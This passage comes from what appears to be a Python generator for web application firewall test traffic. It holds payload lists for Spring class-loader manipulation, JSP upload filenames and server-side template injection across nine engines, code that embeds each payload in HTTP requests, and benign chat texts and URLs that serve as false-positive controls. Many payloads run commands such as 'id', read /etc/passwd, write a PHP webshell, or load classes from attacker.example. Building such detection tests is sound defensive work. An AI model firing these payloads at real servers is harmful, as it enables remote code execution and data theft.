    (QS, "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"),
    (QS, "class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"),
    (QS, "class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat="),
    (QS, "class.classLoader.resources.dirContext.docBase=//attacker.example/share"),
    (QS, "class['classLoader']['resources']['dirContext']['docBase']=x"),
    (QS, "Class.classLoader.defaultAssertionStatus=true"),
    (QS, "class.module.classLoader.URLs[0]=jar:http://attacker.example/spring-exploit.jar!/"),
    (QS, "top['class']['classLoader']['resources']['context']['parent']['pipeline']['first']['pattern']=x"),
    (QS, "class%2emodule%2eclassLoader%2eresources%2econtext%2eparent%2epipeline%2efirst%2esuffix=.jsp"),
    (JB, '{"class":{"module":{"classLoader":{"resources":{"context":{"parent":{"pipeline":{"first":'
         '{"pattern":"x"}}}}}}}}}'),
    (QS, "dataSource.class.classLoader.resources.dirContext.aliases=/x=/etc"),
    (QS, "name=x&class.module.classLoader.DefaultAssertionStatus=nonsense"),
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://attacker.example/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    (JB, '{"@type":"com.sun.org.apache.bcel.internal.util.ClassLoader","driverClassName":"$$BCEL$$$l$8b$I$A$A'
         '$A$A$A$A$A"}'),
]

JSP_BODY = "<%= new java.util.Date() %>"
JAVA_SCRIPT_UPLOAD: list[Entry] = [
    (FN, "shell.jsp"),
    (FN, "cmd.jspx"),
    (FN, "avatar.jsp;.png"),
    (FN, "../../webapps/ROOT/s.jsp"),
    (FN, "index.JSP"),
    (FN, "shell.jsp."),
    (FN, "include.jspf"),
    (FN, "payload.jsp::$DATA"),
    (FN, "s.jSpX"),
    (FN, "photo.php.jsp"),
    (FN, "upload.jsp/"),
    (FN, "x.jsw"),
    (FN, "x.jsv"),
    (FN, "shell.jsp%00.jpg"),
    (FN, "shell.jsp "),
]

# -------------------------------------------------------------------------------------------------------- ssti
SSTI_JINJA2: list[Entry] = [
    "{{7*7}}",
    "{{config.items()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "{{ ''['__cla'+'ss__'] }}",
    "{{ url_for.__globals__.os.environ }}",
    "{{ get_flashed_messages.__globals__['current_app'].config }}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{%print(config)%}",
    (PRE, "%7B%7B7*7%7D%7D"),
    (PRE, "%257B%257Bconfig%257D%257D"),
    (JU, "\\u007b\\u007bconfig.items()\\u007d\\u007d"),
]

SSTI_TWIG: list[Entry] = [
    "{{7*'7'}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('system')|join}}",
    "{{['id',1]|sort('system')|join}}",
    "{{[0]|reduce('system','id')}}",
    "{{ app.request.server.all|join(',') }}",
    "{{ '/etc/passwd'|file_excerpt(1,30) }}",
    "{{dump(app)}}",
    "{% set x = ['id'] %}{{ x|filter('passthru') }}",
    "{{ [\"id\"]|map(\"passthru\") }}",
    "{{_self.env.setCache(\"ftp://attacker.example:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
    "{{ app.request.query.filter(0,0,1024,{'options':'system'}) }}",
    "{{ ['id'] | filter ( 'system' ) }}",
    (PRE, "%7B%7B%5B%27id%27%5D%7Cfilter%28%27system%27%29%7D%7D"),
]

SSTI_FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\",\"id\")"
    ".start()}",
    "<#assign jt=\"freemarker.template.utility.JythonRuntime\"?new()><@jt>import os;os.system(\"id\")</@jt>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign classloader=article.class.protectionDomain.classLoader>",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "#{7*7}",
    "${object?api.class.getResource(\"/\").path}",
    "${\"7*7\"?eval}",
    "<#include \"/WEB-INF/web.xml\">",
    "<#ASSIGN EX=\"FREEMARKER.TEMPLATE.UTILITY.EXECUTE\"?NEW()>${EX(\"ID\")}",
    (PRE, "%3C%23assign%20ex%3D%22freemarker.template.utility.Execute%22%3Fnew()%3E%24%7Bex(%22id%22)%7D"),
    "&lt;#assign ex=&quot;freemarker.template.utility.Execute&quot;?new()&gt;${ex(&quot;id&quot;)}",
]

SSTI_VELOCITY: list[Entry] = [
    "#set($x=7*7)${x}",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$rt.exec(\"id\")",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    "#set($str=$class.inspect(\"java.lang.String\").type)#set($chr=$class.inspect(\"java.lang.Character\").type)"
    "#set($ex=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\"))$ex.waitFor()",
    "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
    "#set($a = $session.getClass())",
    "$!{ $class.forName(\"java.lang.System\").getProperty(\"user.name\") }",
    "#evaluate(\"#set($x=$rt.exec('id'))\")",
    "#include(\"/etc/passwd\")",
    "#parse(\"../../WEB-INF/web.xml\")",
    "#set($s=\"\")$s.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"calc\")",
    "#set ( $x = 7 * 7 ) $x",
    (PRE, "%23set(%24x%3D7*7)%24%7Bx%7D"),
]

SSTI_THYMELEAF: list[Entry] = [
    "[[${7*7}]]",
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "[[${T(java.lang.System).getenv()}]]",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "[[${#request.getClass()}]]",
    "[(${#ctx})]",
    "__${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}__",
    "[[${@environment.getProperty('spring.datasource.url')}]]",
    "__${#response.addHeader(\"X-Pwn\",\"1\")}__::",
    (PRE, "%5f%5f%24%7bT(java.lang.Runtime).getRuntime().exec(%22id%22)%7d%5f%5f%3a%3a.x"),
    "__$%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__::.x",
    "[[ ${ T (java.lang.Runtime) .getRuntime() .exec('id') } ]]",
]

SSTI_ERB: list[Entry] = [
    "<%= 7*7 %>",
    "<%= system(\"id\") %>",
    "<%= `id` %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('id') %>",
    "<%= ENV.inspect %>",
    "<% eval(\"`id`\") %>",
    "<%= Kernel.exec(\"id\") %>",
    "<%=system('whoami')%>",
    (PRE, "%3C%25%3D%207*7%20%25%3E"),
    "&lt;%= system('id') %&gt;",
    "#{`id`}",
    (JU, "\\u003c%= `id` %\\u003e"),
]

SSTI_SMARTY: list[Entry] = [
    "{$smarty.version}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{if system('id')}{/if}",
    "{fetch file='/etc/passwd'}",
    "{include file='/etc/passwd'}",
    "{eval var=\"{system('id')}\"}",
    "{$smarty.server.DOCUMENT_ROOT}",
    "{passthru(\"cat /etc/passwd\")}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{SYSTEM('ID')}",
    (PRE, "%7Bsystem%28%27id%27%29%7D"),
]

HBS_RCE = (
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
    "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "
    "\"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with "
    "(string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"
)

SSTI_HANDLEBARS: list[Entry] = [
    HBS_RCE,
    "{{#with this as |o|}}{{o.constructor.constructor}}{{/with}}",
    "{{lookup (lookup this \"constructor\") \"constructor\"}}",
    "{{#each this}}{{@key}}={{this}} {{/each}}",
    "{{this.__proto__}}",
    "{{#with process.mainModule}}{{require \"child_process\"}}{{/with}}",
    "{{> (lookup . \"constructor\") }}",
    "{{#with (lookup \"a\" \"constructor\")}}{{#with (lookup this \"constructor\")}}{{this \"return process.env\"}}"
    "{{/with}}{{/with}}",
    "{{constructor.constructor \"return global.process.mainModule.require('child_process').execSync('id')\"}}",
    "{{{constructor.constructor}}}",
    (PRE, "%7B%7B%23with%20this%20as%20%7Co%7C%7D%7D%7B%7Bo.constructor.constructor%7D%7D%7B%7B%2Fwith%7D%7D"),
    (JU, "\\u007b\\u007blookup (lookup this \\u0022constructor\\u0022) \\u0022constructor\\u0022\\u007d\\u007d"),
]

SSTI_PUG: list[Entry] = [
    "#{7*7}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
    ".exec('id')}()}",
    "- var x = global.process.mainModule.require('child_process').execSync('id')",
    "#{root.process.mainModule.require('child_process').spawnSync('cat', ['/etc/passwd']).stdout}",
    "- require('child_process').exec('id')",
    "#{process.env}",
    "!{global.process.mainModule.require('fs').readFileSync('/etc/passwd')}",
    "= global.process.mainModule.require('child_process').execSync('whoami')",
    "p #{this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}",
    "include /etc/passwd",
    "#{new Function('return process')().env}",
    (PRE, "%23%7Bglobal.process.mainModule.require(%27child_process%27).execSync(%27id%27)%7D"),
]

SETS: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODEJS_INJECTION),
    ("generic", "nodejs-injection-2-2", NODEJS_INJECTION_2),
    ("generic", "nodejs-dos", NODEJS_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
    ("generic", "ssrf-ip-address", SSRF_IP),
    ("generic", "prototype-pollution", PROTOTYPE_POLLUTION),
    ("generic", "ruby-injection", RUBY_INJECTION),
    ("generic", "perl-injection", PERL_INJECTION),
    ("generic", "php-data-scheme", PHP_DATA_SCHEME),
    ("java", "java-suspicious-class-rce", JAVA_CLASS_RCE),
    ("java", "java-process-spawn", JAVA_PROCESS_SPAWN),
    ("java", "java-serialization-rce", JAVA_SERIAL_RCE),
    ("java", "java-suspicious-class", JAVA_SUSPICIOUS_CLASS),
    ("java", "java-magic-bytes", JAVA_MAGIC),
    ("java", "java-magic-bytes-base64", JAVA_MAGIC_B64),
    ("java", "java-serialization-pl2", JAVA_SERIAL_PL2),
    ("java", "java-suspicious-method", JAVA_METHOD),
    ("java", "log4j-log4shell", LOG4J),
    ("java", "java-class-loading", JAVA_CLASS_LOADING),
    ("java", "java-script-upload", JAVA_SCRIPT_UPLOAD),
    ("ssti", "ssti-jinja2", SSTI_JINJA2),
    ("ssti", "ssti-twig", SSTI_TWIG),
    ("ssti", "ssti-freemarker", SSTI_FREEMARKER),
    ("ssti", "ssti-velocity", SSTI_VELOCITY),
    ("ssti", "ssti-thymeleaf", SSTI_THYMELEAF),
    ("ssti", "ssti-erb", SSTI_ERB),
    ("ssti", "ssti-smarty", SSTI_SMARTY),
    ("ssti", "ssti-handlebars", SSTI_HANDLEBARS),
    ("ssti", "ssti-pug", SSTI_PUG),
]

# ------------------------------------------------------------------------------------------------- placements
OURS_VALUE = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Custom",
              "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS_VALUE = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
            "rs-header:X-Custom", "rs-cookie"]
OURS_PRE = ["query", "form", "cookie"]
RS_PRE = ["rs-query", "rs-form", "rs-raw-body", "rs-cookie"]
OUR_NAMES = ["q", "search", "filter", "name", "url", "callback", "template", "redirect"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_GET_PATHS = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST_PATHS = ["/post", "/", "/index.php", "/api/v1/items", "/cgi-bin/test.cgi"]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
CUSTOM_HEADER = "X-Api-Context"
RS_CUSTOM_HEADER = "X-Custom-Header"


def _one_line(value: str) -> str:
    """A header value: no CR, LF or NUL; anything outside printable ASCII percent-encoded."""
    value = value.replace("\r", " ").replace("\n", " ").replace("\x00", "")
    return "".join(c if 32 <= ord(c) < 127 or c == "\t" else urllib.parse.quote(c) for c in value)


def _cookie_value(value: str) -> str:
    return _one_line(value).replace(";", "%3B")


def _with_headers(req: dict[str, Any], extra: dict[str, str]) -> dict[str, Any]:
    return {**req, "headers": {**req["headers"], **extra}}


def _xml_text(value: str) -> str:
    if ("<" in value or "&" in value) and "]]>" not in value:
        return f"<![CDATA[{value}]]>"
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _multipart(uri: str, fields: list[tuple[str, str]], file_name: str | None, file_body: str) -> dict[str, Any]:
    parts = []
    for key, val in fields:
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{key}\"\r\n\r\n{val}\r\n")
    if file_name is not None:
        fname = _one_line(file_name).replace("\"", "%22")
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{fname}\"\r\n"
                     f"Content-Type: application/octet-stream\r\n\r\n{file_body}\r\n")
    body = "".join(parts) + f"--{BOUNDARY}--\r\n"
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "text/html",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _raw(method: str, uri: str, body: str, content_type: str) -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "*/*", "Content-Type": content_type}}


def _xml_doc(root: str, field: str, inner: str) -> str:
    return f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><{root}><{field}>{inner}</{field}></{root}>"


def ours_value(place: str, name: str, p: str) -> dict[str, Any]:
    """A plain value in one of our routes."""
    q = urllib.parse.quote(p, safe="")
    if place == "query":
        return _get(_query("/api/users", [(name, p), ("page", "1")]))
    if place == "form":
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, p)])
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: p})
    if place == "cookie":
        return _with_headers(_get("/api/users?page=1"), {"Cookie": f"session=abc123; {name}={_cookie_value(p)}"})
    if place == "header:User-Agent":
        return _with_headers(_get("/api/users?page=1"), {"User-Agent": _one_line(p)})
    if place == "header:Referer":
        return _with_headers(_get("/api/users?page=1"), {"Referer": _one_line(p)})
    if place == "header:X-Custom":
        return _with_headers(_get("/api/users?page=1"), {CUSTOM_HEADER: _one_line(p)})
    if place == "param-name":
        return _get(f"/api/users?{q}=1&page=1")
    if place == "xml":
        return _raw("POST", "/api/users", _xml_doc("user", "name", _xml_text(p)), "application/xml")
    if place == "multipart-field":
        return _multipart("/admin/users/import", [("csrf_token", "t0k3n"), ("comment", p)], None, "")
    if place == "multipart-filename":
        return _multipart("/admin/users/import", [("csrf_token", "t0k3n")], p, "id,name\n1,Ann\n")
    if place == "path":
        return _get(f"/api/users/{q}")
    raise ValueError(place)


def rs_value(place: str, name: str, k: int, p: str, pre: bool = False) -> dict[str, Any]:
    """A value the way a WAF regression suite sends it; `pre`: already URL-encoded."""
    gpath, ppath = RS_GET_PATHS[k % len(RS_GET_PATHS)], RS_POST_PATHS[k % len(RS_POST_PATHS)]
    enc = p if pre else urllib.parse.quote(p, safe="")
    if place == "rs-query":
        return _get(f"{gpath}?{name}={enc}")
    if place == "rs-form":
        return _raw("POST", ppath, f"{name}={enc}", "application/x-www-form-urlencoded")
    if place == "rs-json":
        return _json(ppath, {name: p})
    if place == "rs-xml":
        return _raw("POST", ppath, _xml_doc("root", name, _xml_text(p)), "text/xml")
    if place == "rs-raw-body":
        return _raw("POST", ppath, p, "application/x-www-form-urlencoded")
    if place == "rs-cookie":
        return _with_headers(_get(gpath), {"Cookie": f"{name}={p if pre else _cookie_value(p)}"})
    header = {"rs-header:User-Agent": "User-Agent", "rs-header:Referer": "Referer",
              "rs-header:X-Custom": RS_CUSTOM_HEADER}[place]
    return _with_headers(_get(gpath), {header: _one_line(p)})


def ours_pre(place: str, name: str, p: str) -> dict[str, Any]:
    """An already URL-encoded value in one of our routes, as it travels."""
    if place == "query":
        return _get(f"/api/users?{name}={p}&page=1")
    if place == "form":
        return _raw("POST", "/admin/users/search", f"csrf_token=t0k3n&{name}={p}",
                    "application/x-www-form-urlencoded")
    return _with_headers(_get("/api/users?page=1"), {"Cookie": f"session=abc123; {name}={p}"})


def _json_u(key: str, inner: str) -> str:
    """A JSON body whose string value is written with its own \\u escapes, as sent."""
    return f'{{"email":"a@example.org","{key}":"{inner}"}}' if key != "rs" else f'{{"foo":"{inner}"}}'


def placements(kind: str, p: str, i: int) -> list[tuple[str, dict[str, Any]]]:
    """The two requests of the i-th payload of its kind: one to our routes, one the regression-suite way."""
    name, rname = OUR_NAMES[i % len(OUR_NAMES)], RS_NAMES[i % len(RS_NAMES)]
    gpath, ppath = RS_GET_PATHS[i % len(RS_GET_PATHS)], RS_POST_PATHS[i % len(RS_POST_PATHS)]
    if kind == "value":
        o = OURS_VALUE[i % len(OURS_VALUE)]
        r = RS_VALUE[(i * 5 + 3) % len(RS_VALUE)]
        return [(o, ours_value(o, name, p)), (r, rs_value(r, rname, i, p))]
    if kind == PRE:
        o = OURS_PRE[i % len(OURS_PRE)]
        r = RS_PRE[(i + 1) % len(RS_PRE)]
        return [(o, ours_pre(o, name, p)), (r, rs_value(r, rname, i, p, pre=True))]
    if kind == JU:
        return [("json", _raw("POST", "/api/users", _json_u(name, p), "application/json")),
                ("rs-json", _raw("POST", ppath, _json_u("rs", p), "application/json"))]
    if kind == XB:
        return [("xml", _raw("POST", "/api/users", p, "application/xml")),
                ("rs-xml", _raw("POST", ppath, p, "application/xml" if i % 2 else "text/xml"))]
    if kind == JB:
        return [("json", _raw("POST", "/api/users" if i % 2 else "/api/users/42", p, "application/json")),
                ("rs-json", _raw("POST", ppath, p, "application/json"))]
    if kind == QS:
        frag = urllib.parse.quote(p, safe="[]=&%._-~'/:!")
        if i % 2:
            ours = ("form-param-name", _raw("POST", "/admin/users/search", f"csrf_token=t0k3n&{frag}",
                                            "application/x-www-form-urlencoded"))
            rs = ("rs-param-name", _get(f"{gpath}?{frag}"))
        else:
            ours = ("param-name", _get(f"/api/users?{frag}&page=1"))
            rs = ("rs-form-param-name", _raw("POST", ppath, frag, "application/x-www-form-urlencoded"))
        return [ours, rs]
    if kind == FN:
        if i % 2:
            ours = ("header:X-File-Name", _with_headers(
                _raw("POST", "/api/users/42/avatar", JSP_BODY, "application/octet-stream"),
                {"X-File-Name": _one_line(p)}))
            safe = ";:$" if ".." in p else ";:$/"
            rs = ("rs-path", _raw("PUT", "/" + urllib.parse.quote(p, safe=safe), JSP_BODY, "application/octet-stream"))
        else:
            ours = ("multipart-filename", _multipart("/admin/users/import", [("csrf_token", "t0k3n")], p, JSP_BODY))
            rs = ("rs-multipart-filename", _multipart(ppath, [("submit", "Upload")], p, JSP_BODY))
        return [ours, rs]
    raise ValueError(kind)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    counters: dict[str, int] = {}
    for category, sub, entries in SETS:
        for entry in entries:
            kind, p = ("value", entry) if isinstance(entry, str) else entry
            i = counters.get(kind, 0)
            counters[kind] = i + 1
            for placement, req in placements(kind, p, i):
                n += 1
                yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": placement, "payload": p}


# ---------------------------------------------------------------------------------------------------- benign
SLACK_TEXTS = [
    "heads up: the Java 17 upgrade for billing-service is merged, please rebuild your local images",
    "anyone seen `java.lang.OutOfMemoryError: Metaspace` on the reporting job? started after the class loader change",
    "Runtime.getRuntime().availableProcessors() returns 2 in the container, so the pool only gets two threads",
    "we replaced the ProcessBuilder call in the PDF exporter with the library API, no more forking wkhtmltopdf",
    "reminder: log4j is pinned to 2.17.1 everywhere, dependabot PRs for it can be merged",
    "the jndi datasource config moved to application.yml, the old context.xml is gone",
    "serialization of the session objects broke after the upgrade, switching them to JSON",
    "Jackson is throwing on the new enum value, added @JsonEnumDefaultValue",
    "does anyone remember why we keep commons-collections 3.2.2 in the legacy app?",
    "the Struts app is finally being retired at the end of the quarter",
    "Thymeleaf templates are in src/main/resources/templates, the emails too",
    "in Freemarker you write ${user.name} and in Thymeleaf th:text=\"${user.name}\", I keep mixing them up",
    "our mail merge uses {{first_name}} and {{company}} placeholders, please keep the braces",
    "Jinja tip: {% for item in items %} ... {% endfor %} and use the |default filter for missing values",
    "Twig's |raw filter is banned in our templates, use |e instead",
    "Handlebars partials live in views/partials, register them with hbs.registerPartials",
    "in pug, indentation matters; two spaces please",
    "the ERB layout has <%= yield %> in the middle, don't remove it",
    "Smarty is only in the old shop frontend, {$product.price} style variables",
    "Velocity templates for the Confluence macros are under resources/vm",
    "Node 20 is the minimum now; `process.env.PORT` defaults to 3000",
    "require('express') and require('helmet') are the only runtime deps of the gateway mock",
    "we use execa instead of child_process directly, it handles the exit codes better",
    "the constructor of the Order class validates the currency code",
    "found a prototype pollution bug in an old lodash version, bumped it to 4.17.21",
    "JSON.parse on untrusted input is fine, merging it into config objects is not",
    "the while(true) loop in the worker has a sleep at the end, it is not a busy loop",
    "eval is not used anywhere in the frontend bundle, CSP has no unsafe-eval",
    "setTimeout with 0 ms just pushes it to the next tick",
    "Ruby script for the CSV import is in tools/import.rb, run it with bundle exec",
    "the Perl one-liner perl -pi -e 's/foo/bar/g' *.conf fixed the configs",
    "we still have a couple of cgi-bin Perl scripts on the intranet box",
    "Kernel#system in Ruby returns true or false, not the output",
    "the data: URL for the logo is 14 KB, let's serve it as a file instead",
    "avatars are stored as data:image/png;base64 in the old DB column, migration moves them to S3",
    "IMDSv2 is enforced on all EC2 instances now, hop limit 1",
    "the metadata endpoint is only reachable from inside the VPC, good",
    "staging DB is on 10.0.3.17, ask me for the read-only user",
    "the printer's admin page is at 192.168.1.50 if anyone needs to reset it",
    "localhost:8080 gives a 404 for me, is the dev server running on another port?",
    "the JSP pages in the admin console render the old header, we need to port them",
    "please don't upload .jsp or .war files to the shared drive, use the artifact repo",
    "Tomcat's manager app is disabled in prod, deploys go through the pipeline",
    "the class diagram for the new module is in the wiki",
    "our Java trainer recommends Effective Java, 3rd edition",
    "spring-boot-starter-web 3.2 brings Tomcat 10.1",
    "the base64 in the JWT payload is just claims, not secrets",
    "I renamed the method getRuntime to getElapsedTime, it was confusing",
    "reflection is slow, cache the Method objects",
    "Class.forName is only used to load the JDBC driver in the old code",
    "the XML importer now uses a hardened DocumentBuilderFactory, no external entities",
    "XStream was removed from the dependencies last sprint",
    "reminder: the code freeze starts Thursday at 18:00",
    "who owns the process for onboarding new contractors?",
    "coffee machine on 3rd floor is fixed",
    "lunch at the ramen place? 12:30",
    "the retro notes are in the team folder",
    "great demo today, the export is so much faster",
    "my system crashed during the update, restarting",
    "exec team offsite is next week, Slack will be quiet",
    "the runtime of the nightly job dropped from 40 to 12 minutes",
    "I'll process the refunds this afternoon",
    "the class on Kubernetes basics starts Monday",
    "our data scheme for the analytics events is documented in the schema registry",
    "the template for the quarterly report is in the drive",
    "please use the {{ticket_id}} placeholder in the support macro",
    "the invoice template shows ${amount} instead of the number, the variable name changed",
    "Hi {name}, your order {order_id} has shipped - that's the SMS template",
    "the `#{}` interpolation only works in double-quoted Ruby strings",
    "perl's qw() is handy for word lists",
    "I think the ruby gem for PDF generation is prawn",
    "the serialization format for the cache is MessagePack now",
    "magic bytes for PNG are 89 50 4E 47, that's how the uploader checks images",
    "gzip files start with 1f 8b, the log shipper sniffs that",
    "we detect file types by magic bytes now, not by extension",
    "Java's object streams start with AC ED, which is why the scanner flagged the old RMI port",
    "the old RMI registry on port 1099 is firewalled",
    "ldap sync for the directory runs hourly",
    "the Elasticsearch cluster on 10.0.5.0/24 is being resized",
    "use 127.0.0.1 instead of localhost in the tests, IPv6 resolution is flaky in CI",
    "the health check hits http://localhost:9000/health inside the pod",
    "metadata for the uploads (size, type, owner) lives in the files table",
    "the cloud bill went down 20% after rightsizing",
    "our SSO provider rotated its signing keys, no action needed",
    "upgrade notes for Spring 6: javax.* imports become jakarta.*",
    "jakarta.servlet is the new package name, search and replace did most of it",
    "the JSON body for POST /api/users needs an email field",
    "the Node service that renders PDFs uses puppeteer",
    "the proto files for gRPC are in the api repo",
    "protobuf's __proto__ naming has nothing to do with JS prototypes, just a coincidence in the file",
    "Object.create(null) for dictionaries avoids inherited keys",
    "the npm audit shows two moderate issues, both dev dependencies",
    "DoS protection on the API is the rate limiter, 100 req/min per token",
    "the regex for postal codes was catastrophic on long input, rewrote it without nested quantifiers",
    "load test tomorrow at 7, expect alerts",
    "ssrf was a finding in last year's pentest, the webhook URL validator fixed it",
    "URL previews only fetch public hosts now",
    "the webhook settings page accepts https URLs only",
    "I'm at the Java user group meetup tonight, talk on virtual threads",
    "Groovy scripts in Jenkins run in the sandbox",
    "ognl expressions are gone from the codebase with Struts",
    "the EL in our JSF pages is #{bean.property}, standard stuff",
    "SpEL is only used in @PreAuthorize annotations",
    "the javadoc build fails on the new module, missing @param tags",
    "the batch job runs java -Xmx2g -jar importer.jar",
    "Maven central was slow this morning",
    "gradle daemon eats memory, stop it with ./gradlew --stop",
    "anyone has a good intro to Ruby on Rails for the new hire?",
    "Perl is still in the build of the legacy billing, don't remove it from the image",
    "the release template: version, date, highlights, known issues",
    "migrated the Jekyll blog templates, Liquid tags {% include footer.html %} still work",
    "Hugo uses {{ .Title }} in its layouts, similar to Go templates",
    "Django templates are close to Jinja, {{ user.get_full_name }} works",
    "the email preview shows {{unsubscribe_link}} literally, the variable isn't passed",
    "the FreeMarker error says 'The following has evaluated to null or missing', the field name is wrong",
    "who has access to the AWS console for the sandbox account?",
    "the VPN gives you a 10.8.x.x address",
    "ticket ROOT-1203: upload of .jspx reports fails with 415",
    "reviewing PR 4412: replaces Runtime.exec with a proper API call",
    "the JS console says 'constructor is not a function', missing new keyword",
    "the class name collision was between two User types",
    "the process list on the box shows java and node, nothing else",
    "we moved from Perl CGI to a Flask app years ago",
    "the data protection officer wants the retention policy by Friday",
]

PUBLIC_URLS = [
    "https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/io/ObjectInputStream.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Basics_of_HTTP/Data_URLs",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/templates.html",
    "https://freemarker.apache.org/docs/dgui_quickstart_template.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://handlebarsjs.com/guide/",
    "https://pugjs.org/api/getting-started.html",
    "https://www.smarty.net/docs/en/",
    "https://ruby-doc.org/3.2.2/Kernel.html",
    "https://perldoc.perl.org/functions/open",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://spring.io/blog/2022/03/31/spring-framework-rce-early-announcement",
    "https://tomcat.apache.org/tomcat-10.1-doc/jasper-howto.html",
    "https://github.com/acme/billing/blob/main/src/main/java/com/acme/billing/ProcessRunner.java",
    "https://github.com/acme/web/blob/main/views/layouts/main.hbs",
    "https://github.com/acme/shop/tree/main/templates/product.html.twig",
    "https://gist.github.com/acme-dev/3f2a1b9c/raw/template.ftl",
    "https://example.com/docs/templates?engine=jinja2&version=3",
    "https://status.example.com/incidents/2024-03-10",
    "https://cdn.example.net/assets/logo.svg?v=20240301",
    "https://en.wikipedia.org/wiki/Java_(programming_language)",
    "https://en.wikipedia.org/wiki/Perl",
    "https://en.wikipedia.org/wiki/Ruby_(programming_language)",
    "https://en.wikipedia.org/wiki/Magic_number_(programming)",
